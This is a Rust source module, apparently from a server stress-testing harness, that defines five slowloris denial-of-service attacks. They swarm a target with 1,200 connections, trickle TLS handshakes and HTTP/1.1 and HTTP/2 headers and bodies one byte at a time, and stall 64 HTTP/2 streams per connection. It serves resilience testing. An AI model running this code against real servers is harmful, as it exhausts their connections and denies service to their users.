//! Clients that take their time to ask (slowloris).

use std::io;
use std::net::Ipv4Addr;
use std::time::Duration;

use tokio::io::{AsyncWrite, AsyncWriteExt as _};
use tokio::time::sleep;

use super::wire::{END_HEADERS, HEADERS, PREFACE, frame, head, post, send, settings};
use super::{Attack, Field};

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "TLS handshakes, a byte at a time",
            run: |field| Box::pin(async move { field.swarm(SLOW, handshake).await }),
        },
        Attack {
            name: "headers of HTTP/1.1, a byte at a time",
            run: |field| Box::pin(async move { field.swarm(SLOW, http1_headers).await }),
        },
        Attack {
            name: "headers of HTTP/2, a byte at a time",
            run: |field| Box::pin(async move { field.swarm(SLOW, http2_headers).await }),
        },
        Attack {
            name: "bodies of HTTP/1.1, a byte at a time",
            run: |field| Box::pin(async move { field.swarm(SLOW, http1_body).await }),
        },
        Attack {
            name: "64 bodies of HTTP/2 a connection, none of which goes on",
            run: |field| Box::pin(async move { field.swarm(SLOW / 10, http2_bodies).await }),
        },
    ]
}

async fn handshake(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let mut stream = field.tcp(from).await?;
    trickle(&mut stream, &super::handshakes::client_hello(&field)?).await
}

async fn http1_headers(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let mut stream = field.tls(from, b"http/1.1").await?;
    send(&mut stream, b"POST /validate HTTP/1.1\r\n").await?;
    trickle(&mut stream, "X-Slow: loris\r\n".repeat(1000).as_bytes()).await
}

async fn http2_headers(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let mut stream = field.tls(from, b"h2").await?;
    send(&mut stream, &[PREFACE, &settings(&[])].concat()).await?;
    trickle(&mut stream, &frame(HEADERS, 0, 1, &[b'x'; 16_000])).await
}

async fn http1_body(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let mut stream = field.tls(from, b"http/1.1").await?;
    let review = &field.target.review;
    send(&mut stream, post("/validate", review.len()).as_bytes()).await?;
    trickle(&mut stream, review).await
}

async fn http2_bodies(field: Field, from: Ipv4Addr) -> io::Result<()> {
    let mut stream = field.tls(from, b"h2").await?;
    let block = head("POST", "/validate");
    let streams = (0..64).flat_map(|number| frame(HEADERS, END_HEADERS, 2 * number + 1, &block));
    let streams: Vec<u8> = streams.collect();
    send(&mut stream, &[PREFACE, &settings(&[]), &streams].concat()).await?;
    super::wire::drain(&mut stream).await
}

async fn trickle(stream: &mut (impl AsyncWrite + Unpin), bytes: &[u8]) -> io::Result<()> {
    for byte in bytes {
        stream.write_all(&[*byte]).await?;
        stream.flush().await?;
        sleep(BETWEEN).await;
    }
    Ok(())
}

/// More than the connections that the server keeps.
const SLOW: usize = 1200;
const BETWEEN: Duration = Duration::from_millis(250);
